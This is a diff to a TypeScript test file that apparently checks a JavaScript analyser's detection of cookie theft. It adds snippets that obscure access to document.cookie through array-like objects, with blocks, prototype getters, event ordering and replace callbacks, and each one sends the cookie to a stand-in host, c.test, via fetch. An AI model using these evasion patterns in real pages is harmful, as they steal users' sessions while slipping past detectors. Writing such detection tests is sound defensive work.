@@ -176,11 +176,38 @@ const BEYOND_THE_MODEL = [
 		"a variable after an await",
 		`(function () { let it = "/a?c="; (async () => { await 0; fetch(it + document.cookie); })(); it = "https://c.test/?c="; })();`,
 	],
+	...[
+		["an object like a list", `const n = Array.prototype.slice.call({ 0: "cookie", length: 1 })[0];`],
+		["an object like a list, mapped", `const [n] = Array.prototype.map.call({ 0: "cookie", length: 1 }, (a) => a);`],
+		["a variable within with", `var it = { b: 1 }; with (it) { var b = "cookie"; } const n = it.b;`],
+		["an own exec", `const it = /a/; it.exec = () => ["cookie"]; const n = "a".match(it)[0];`],
+		["a flattened list", `const n = [[1], [["cookie"]]].flat(Infinity)[1];`],
+		[
+			"a getter of all objects",
+			`Object.defineProperty(Object.prototype, "a", { get: () => "cookie" }); const n = [].a;`,
+		],
+		["an old getter of all objects", `Object.prototype.__defineGetter__("a", () => "cookie"); const n = ({}).a;`],
+		[
+			"an event that is stopped",
+			`let n = ""; const on = new EventTarget(); on.addEventListener("a", () => { n += "p"; }, { once: true }); on.dispatchEvent(new Event("a")); n = ""; on.addEventListener("a", (e) => { n += "cook" + "ie"; e.stopImmediatePropagation(); }); on.addEventListener("a", () => { n += "2"; }); on.dispatchEvent(new Event("a"));`,
+		],
+	].map(([title, before]) => [
+		`a name of the document out of ${title}`,
+		`${before} fetch("https://c.test/?c=" + document[n]);`,
+	]),
+	[
+		"the document out of an object like a list",
+		`fetch("https://c.test/?c=" + Array.prototype.slice.call({ 0: document, length: 1 })[0].cookie);`,
+	],
+	[
+		"an address that a replacer makes of an unknown text",
+		`fetch("/" + location.hash.replace("ab", () => "/c.test/?c=") + document.cookie);`,
+	],
 	[
 		"text that an own element gives back",
 		`const it = document.createElement("p"); it.append("https://c.test/?c="); fetch(document.createTreeWalker(it, 4).nextNode().data + document.cookie);`,
 	],
-] as const;
+];
 
 describe("a theft on a way that the model does not know", () => {
 	test.each(BEYOND_THE_MODEL)("is not green: %s", (_title, code) => {
